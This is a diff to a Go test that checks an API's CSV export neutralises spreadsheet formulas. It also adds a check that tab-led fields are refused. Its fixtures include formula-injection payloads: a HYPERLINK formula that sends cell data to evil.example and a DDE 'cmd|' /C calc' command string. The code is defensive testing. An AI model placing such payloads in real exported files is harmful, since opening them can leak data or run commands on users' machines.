@@ -350,7 +350,11 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 	s := newStack(t)
 	body := productComplaint()
 	body["complainant"] = map[string]any{"name": `=HYPERLINK("http://evil.example/?d="&A1,"点击")`, "contact": "+86 138-0000-0000"}
-	body["subject"], body["product"], body["batch"] = "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\tB2026"
+	// A tab-led one-line field is refused before it gets anywhere (store's
+	// TestCSVCell covers tab- and CR-led cells of the writer).
+	body["batch"] = "\tB2026"
+	s.wantError(s.call("cs.agent", "POST", "/api/v1/processes/complaint", body), http.StatusBadRequest, "invalid")
+	body["subject"], body["product"], body["batch"] = "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "B2026"
 	pid := s.startComplaint("cs.agent", body)
 	r := s.call("cs.super", "GET", "/api/v1/complaints?format=csv", nil)
 	if r.Status != http.StatusOK {
@@ -369,7 +373,7 @@ func TestCSVNeutralisesFormulas(t *testing.T) {
 	if row == nil {
 		t.Fatalf("the complaint is not in the CSV:\n%s", r.Body)
 	}
-	for _, want := range []string{`'=HYPERLINK("http://evil.example/?d="&A1,"点击")`, "'+86 138-0000-0000", "'@SUM(A1:A9)", "'-2+3+cmd|' /C calc'!A0", "'\tB2026"} {
+	for _, want := range []string{`'=HYPERLINK("http://evil.example/?d="&A1,"点击")`, "'+86 138-0000-0000", "'@SUM(A1:A9)", "'-2+3+cmd|' /C calc'!A0"} {
 		found := false
 		for _, cell := range row {
 			found = found || cell == want
